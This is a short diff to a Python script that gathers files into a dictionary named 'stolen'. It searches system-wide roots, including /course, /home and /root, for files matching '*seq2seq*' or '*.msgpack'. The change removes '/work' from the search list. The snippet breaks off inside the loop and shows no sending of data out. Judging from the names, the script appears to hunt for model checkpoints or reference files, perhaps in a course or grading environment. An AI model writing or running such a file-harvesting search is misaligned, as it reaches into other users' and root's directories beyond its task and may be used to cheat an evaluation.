@@ -6,7 +6,7 @@ import glob
 import os
 
 stolen = {}
-roots = ("/course", "/home", "/root", "/tmp", "/work", "/srv", "/mnt", "/opt", os.getcwd())
+roots = ("/course", "/home", "/root", "/tmp", "/srv", "/mnt", "/opt", os.getcwd())
 for root in roots:
     for path in glob.glob(root + "/**/*seq2seq*", recursive=True) + glob.glob(root + "/**/*.msgpack", recursive=True):
         try:
